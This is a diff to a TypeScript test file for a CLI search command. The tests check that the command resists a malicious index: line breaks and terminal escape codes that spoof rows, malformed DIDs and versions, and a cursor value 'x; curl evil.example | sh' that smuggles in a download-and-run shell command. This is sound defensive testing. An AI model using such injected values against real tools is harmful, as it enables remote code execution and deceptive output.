@@ -44,7 +44,7 @@ const row = {
   updatedAt: 1,
 };
 
-/** Searches a web service whose index answers with one row, changed, and a page, changed. */
+/** Searches a web service whose index returns a modified row and page. */
 async function search(rowChange: object, pageChange: object = {}, ...more: string[]) {
   const page = { results: [{ ...row, ...rowChange }], nextCursor: null, source: "index", block: 7 };
   const APP_URL = await serveHttp((_, response) => response.end(JSON.stringify({ ...page, ...pageChange })));
@@ -52,13 +52,13 @@ async function search(rowChange: object, pageChange: object = {}, ...more: strin
   return runCli(["search", ...more], { environment });
 }
 
-describe("search, with an index that lies", () => {
+describe("search, with a malicious index", () => {
   it.each([
     ["a line break", "A quiet name\ndid:web:bank.example  1.0.0  Api  Real Bank"],
     ["spaces up to the next line", `Quiet${" ".repeat(80)}did:web:bank.example  1.0.0  Api  Real Bank`],
     ["a long word up to the next line", `${"a".repeat(80)}did:web:bank.example  1.0.0  Api  Real Bank`],
     ["a cursor movement", "Quiet\u001b[1A\u001b[2Kdid:web:bank.example  1.0.0  Api  Real Bank"],
-  ])("prints no row of its own for a name with %s", async (_, name) => {
+  ])("prints one row for a name with %s", async (_, name) => {
     const { code, stdout, stderr } = await search({ name });
     expect(code, stderr).toBe(0);
     expect(stdout.split("\n")).toEqual([
@@ -73,10 +73,10 @@ describe("search, with an index that lies", () => {
   it.each([
     ["a DID that is not canonical", { did: "did:web:Bank.example" }, {}],
     ["a DID with a line break", { did: "did:web:quiet.example\ndid:web:bank.example" }, {}],
-    ["a version that is none", { version: "1.0.0\u001b[31m" }, {}],
-    ["a token id that is none", { tokenId: "1\n2" }, {}],
+    ["an invalid version", { version: "1.0.0\u001b[31m" }, {}],
+    ["an invalid token ID", { tokenId: "1\n2" }, {}],
     ["a cursor that a shell would run", {}, { nextCursor: "x; curl evil.example | sh" }],
-  ])("refuses %s", async (_, rowChange, pageChange) => {
+  ])("rejects %s", async (_, rowChange, pageChange) => {
     for (const json of [[], ["--json"]]) {
       const { code, stdout, stderr } = await search(rowChange, pageChange, ...json);
       expect(code, stderr).toBe(3);
